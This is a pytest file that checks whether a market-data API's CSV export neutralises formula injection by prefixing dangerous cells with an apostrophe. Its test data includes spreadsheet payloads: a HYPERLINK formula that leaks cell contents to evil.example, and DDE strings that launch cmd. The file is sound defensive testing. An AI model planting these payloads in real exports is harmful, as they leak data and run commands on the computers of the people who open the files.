"""CSV formula injection (issue 39, item 4): upstream text never becomes a live formula.

Text from upstreams (press-release titles, grading companies, Wikipedia's constituents,
filing descriptions, coin and company names...) reaches CSV cells. A cell that starts with
``=``, ``+``, ``-``, ``@``, tab, CR (and LF, NUL) is a formula to a spreadsheet, so the
writer (:func:`apps.core.tabular.neutralise`, used for every cell of every CSV endpoint)
puts ``'`` before such text, as OWASP's CSV-injection guidance says. JSON numbers are not
text and stay as they are (``-1.5``); a text that is a plain signed number (v1's formatted
``"-1.20"`` or ``"+0.69%"``) is a number to a spreadsheet, not a formula, and stays too.

Every CSV endpoint is covered: those with upstream text get a hostile text through the
sandbox (its answer rewritten on the way, so the real client, parsers and views run); the
others are checked to carry no free text at all, so a text column added later fails here
until it gets its hostile case.
"""

from __future__ import annotations

import html
import io
import json
import re
import zipfile
from typing import Any

import orjson
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from apps.core import tabular
from tests.apps.test_csv_api import (
    CSV_ACCEPT,
    SAMPLES,
    _flat,
    assert_same_table,
    expected_text,
    parse_csv,
    reads_as_number,
)
from tests.conftest import clear_cache

RECORDS = dict(SAMPLES)


# -- the cell rule ----------------------------------------------------------------------------
@pytest.mark.parametrize(("text", "cell"), [
    ('=HYPERLINK("http://evil.example/?q="&A1,"Apple")',
     '\'=HYPERLINK("http://evil.example/?q="&A1,"Apple")'),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("\n=1+1", "'\n=1+1"),
    ("-1-2", "'-1-2"), ("-", "'-"), ("+", "'+"), ("- 1", "'- 1"), ("-1e", "'-1e"),
    ("-Infinity", "'-Infinity"), ("-nan", "'-nan"), ("-1,23", "'-1,23"), ("+\u0663", "'+\u0663"),
    # Plain signed numbers (v1's formatted strings) are numbers to a spreadsheet: kept.
    ("-1.20", "-1.20"), ("+0.69%", "+0.69%"), ("-0.52%", "-0.52%"), ("+12.34", "+12.34"),
    ("-1,234.56", "-1,234.56"), ("-1.5e-7", "-1.5e-7"), ("+.5", "+.5"), ("-3", "-3"),
    # Anything else is kept as it is.
    ("Apple Inc. Declares Quarterly Dividend", "Apple Inc. Declares Quarterly Dividend"),
    ("", ""), ("2024-01-02", "2024-01-02"), ("a=b", "a=b"), (" =1", " =1"),
])
def test_neutralise(text, cell):
    assert tabular.neutralise(text) == cell
    assert tabular.cell(text) == cell


_SIGNED_NUMBERS = st.builds(
    lambda sign, value, style: sign + format(value, style),
    st.sampled_from(["+", "-"]),
    st.floats(min_value=0, max_value=1e12, allow_nan=False),
    st.sampled_from([".2f", ",.2f", ".2%", "g", ",.0f", ".3e", "f"]))


@given(st.one_of(st.text(), _SIGNED_NUMBERS,
                 st.tuples(st.sampled_from(tabular.FORMULA_STARTS), st.text()).map("".join)))
@example("-0.52%")
@example("-1,234,567.5")
@example("-1,2345")
def test_no_text_cell_starts_a_formula(text):
    """Whatever the text: the cell is the text or ``'`` and the text (nothing else
    changes), and it starts with a formula character only as a plain signed number."""
    cell = tabular.neutralise(text)
    assert cell in (text, "'" + text)
    assert cell == expected_text(text)
    assert not cell.startswith(tabular.FORMULA_STARTS) or reads_as_number(cell)


@given(st.one_of(st.integers(-(2 ** 63), 2 ** 63 - 1),
                 st.floats(allow_nan=False, allow_infinity=False, max_value=0)))
@example(-1.5)
def test_numbers_stay_numbers(number):
    """A negative JSON number is a number cell, never prefixed."""
    assert tabular.cell(number) == orjson.dumps(number).decode()


def test_the_writer_neutralises_text_and_names_only():
    body = tabular.write_csv(["title", "change", "percentChange", "=name"], [
        {"title": '=HYPERLINK("http://evil.example/")', "change": -1.5,
         "percentChange": "-1.20%", "=name": "@x"}])
    assert body == (b"title,change,percentChange,'=name\r\n"
                    b'"\'=HYPERLINK(""http://evil.example/"")",-1.5,-1.20%,\'@x\r\n')


# -- every CSV endpoint ------------------------------------------------------------------------
# CSV endpoint -> a column of upstream text (the first value found there becomes hostile).
TEXT_COLUMNS = {
    "/v2/screeners/day-gainers?count=5": "shortName",
    "/v2/screeners/most-actives?count=3&format=both": "longName",
    "/v2/filings/AAPL?limit=5": "primaryDocDescription",
    "/v2/filings/AAPL/fails-to-deliver": "description",
    "/v2/filings/AAPL/insiders?start=2024-01-01&end=2025-06-30": "insider.name",
    "/v2/filings/AAPL/congressional-trades": "assetDescription",
    "/v2/etf/DIA/holdings": "name",  # N-PORT issuer names
    "/v2/filings/1067983/13f?period=2024-06-30": "issuer",  # the information table's
    "/v2/filings/13f/search?name=capital": "name",  # EDGAR's display names
    "/v2/crypto/coins?count=5": "name",
    "/v2/crypto/trending": "name",
    "/v2/press-releases/AAPL?limit=3": "title",
    "/v2/grading-actions/AAPL": "gradingCompany",
    "/v2/index-constituents/%5EDJI": "name",
    "/v2/currencies": "longName",
    "/v2/trending?region=US": "shortName",
    # FRED's release calendar (with FRED_API_KEY; without one, names the service knows).
    "/v2/calendar?symbols=AAPL,MSFT,KO&range=3mo": "event.ECONOMIC_RELEASE.name",
    # Yahoo's calendar service: company names, event names
    "/v2/calendars/earnings?start=2025-01-20&end=2025-01-31": "name",
    "/v2/calendars/ipos?start=2025-03-03&end=2025-03-14": "name",
    "/v2/calendars/economic?start=2025-03-03&end=2025-03-14": "event",
    # FINRA's Market column (its facility codes) and market class code: upstream text
    "/v2/short/AAPL/volume": "market",
    "/v2/short/AAPL/interest": "market",
}
# The other CSV endpoints carry no free text: dates, symbols, split ratios, and names the
# service itself writes (candle patterns, financial metrics, calendar event kinds).
_TOKEN = re.compile(r"[\^A-Za-z0-9][A-Za-z0-9.:=_-]*")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"{}")',
    "@SUM(1+1)*cmd|' /C calc'!A0 {}",
    "+cmd|' /C calc'!A0 {}",
    "-2+3+cmd|' /C calc'!A0 {}",
]

# Upstream files whose columns are separated by "|": a pipe in a value would be a column.
PIPE_DELIMITED = {"/v2/short/AAPL/volume"}


def test_every_csv_endpoint_is_covered():
    assert set(TEXT_COLUMNS) <= set(RECORDS)


def _rewrite(body: bytes, content_type: str, old: str, new: str) -> bytes:
    """``body`` with the text ``old`` replaced by ``new``, as the body's format writes them
    (JSON escapes, HTML entities, plain text; inside a zip's members too)."""
    if body[:2] == b"PK":
        source, out = zipfile.ZipFile(io.BytesIO(body)), io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
            for info in source.infolist():
                target.writestr(info, _rewrite(source.read(info), "text/plain", old, new))
        return out.getvalue()
    if "json" in content_type:
        forms = [(json.dumps(old)[1:-1], json.dumps(new)[1:-1]),
                 (json.dumps(old, ensure_ascii=False)[1:-1], json.dumps(new)[1:-1])]
    elif "html" in content_type or "xml" in content_type:
        forms = [(html.escape(old), html.escape(new)), (html.escape(old, quote=False),
                                                        html.escape(new))]
    else:
        forms = [(old, new)]
    for before, after in forms:
        body = body.replace(before.encode(), after.encode())
    return body


@pytest.mark.parametrize("target", [t for t, _ in SAMPLES])
def test_hostile_upstream_text_is_no_formula(api, sandbox, monkeypatch, target):
    records = RECORDS[target]
    rows = [_flat(r) for r in records(api.get(target).json())]
    assert rows, target
    column = TEXT_COLUMNS.get(target)
    if column is None:
        for row in rows:
            for name, value in row.items():
                assert not isinstance(value, str) or value == "" or _TOKEN.fullmatch(value), (
                    f"{target}: `{name}` carries text ({value!r}): give it a hostile case "
                    "in TEXT_COLUMNS")
        return
    needle = next((row[column] for row in rows if row.get(column)), None)
    assert isinstance(needle, str) and len(needle) >= 3, (target, column, needle)
    cases = [h for h in HOSTILE if "|" not in h] if target in PIPE_DELIMITED else HOSTILE
    hostile = cases[list(TEXT_COLUMNS).index(target) % len(cases)].format(needle)
    handle = sandbox.handle

    def hostile_handle(*args: Any, **kwargs: Any):
        answer = handle(*args, **kwargs)
        content_type = answer.headers.get("Content-Type", "")
        answer.body = _rewrite(answer.body, content_type, needle, hostile)
        return answer

    from django.core.cache import cache

    clear_cache(cache)
    monkeypatch.setattr(sandbox, "handle", hostile_handle)
    as_json = api.get(target)
    assert as_json.status_code == 200, (target, as_json.content[:300])
    json_rows = records(as_json.json())
    values = [str(_flat(r).get(column)) for r in json_rows]
    reached = [v for v in values if "cmd|" in v or "evil.example" in v]
    assert reached and reached[0][0] in "=@+-", (target, values[:3])
    as_csv = api.get(target, **CSV_ACCEPT)
    assert as_csv.status_code == 200
    assert_same_table(as_csv, json_rows)  # every text cell neutralised as expected_text says
    header, *lines = parse_csv(as_csv)
    position = header.index(column)
    assert "'" + reached[0] in [line[position] for line in lines]
    for line in lines:
        for value in line:
            assert not value.startswith(tabular.FORMULA_STARTS) or reads_as_number(value), (
                target, value)


@pytest.fixture
def sandbox(sandbox_upstream, settings):
    settings.FMP_API_KEY = "0123456789abcdef0123456789abcdef"  # congressional trades
    settings.FRED_API_KEY = "0123456789abcdef0123456789abcdef"  # FRED's release calendar
    # The first request builds the sandbox's series: on a loaded machine past the default
    # 10 s (a 504 that says nothing about CSV).
    settings.REQUEST_DEADLINE_SECONDS = 60.0
    return sandbox_upstream
